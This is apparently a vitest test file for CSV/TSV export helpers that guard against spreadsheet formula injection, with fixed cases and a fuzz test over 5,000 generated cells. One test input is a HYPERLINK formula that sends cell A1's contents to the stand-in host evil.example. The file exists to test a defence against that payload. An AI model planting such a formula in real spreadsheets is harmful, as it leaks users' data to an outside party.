// Every cell a spreadsheet would read as a formula is neutralised, for generated cells as well as the
// payloads of the issue; ordinary text is left as written.
import { describe, expect, it } from 'vitest';
import { csvField, tsvField } from './spreadsheet-cell.ts';
import { seeded } from '../../../tests/support/seeded.ts';

/** How a spreadsheet reads one CSV/TSV field back (RFC 4180 quoting). */
const unquote = (f: string) => (f.startsWith('"') ? f.slice(1, -1).replace(/""/g, '"') : f);
const FORMULA = /^[=+\-@\t\r]/;

describe('spreadsheet cells', () => {
  it('neutralise the formula payloads and quote them', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?"&A1,"詳しくはここ")')).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""詳しくはここ"")"');
    expect(tsvField('=1+1')).toBe('"\'=1+1"');
    expect(tsvField('@SUM(A1)')).toBe('"\'@SUM(A1)"');
    expect(tsvField('\t=1')).toBe('"\'\t=1"');
    expect(tsvField('国民年金')).toBe('国民年金');
    expect(csvField('国民年金')).toBe('"国民年金"');
    // (a lone 「-」, a blank cell as printed, is no formula: kept as the report has it; 「-1」 or 「--」 is guarded)
    expect(csvField('-')).toBe('"-"');
    expect(tsvField('-')).toBe('-');
    expect(csvField('-1')).toBe('"\'-1"');
    expect(csvField('--')).toBe('"\'--"');
  });
  it('never hand a spreadsheet a cell that starts a formula, and keep the text otherwise (5,000 generated cells)', () => {
    const r = seeded(42);
    const chars = [...'=+-@\t\r\n"\',;a日１'];
    for (let i = 0; i < 5000; i++) {
      const text = Array.from({ length: r.int(8) }, () => r.pick(chars)).join('');
      for (const field of [csvField(text), tsvField(text)]) {
        const read = unquote(field);
        expect(FORMULA.test(read) && read !== '-', JSON.stringify(field)).toBe(false);
        expect(read === text || read === `'${text}`).toBe(true);
        if (FORMULA.test(text) && text !== '-') expect(field.startsWith('"\'')).toBe(true);
      }
      expect(tsvField(text).includes('\t') ? tsvField(text).startsWith('"') : true).toBe(true);
    }
  });
});
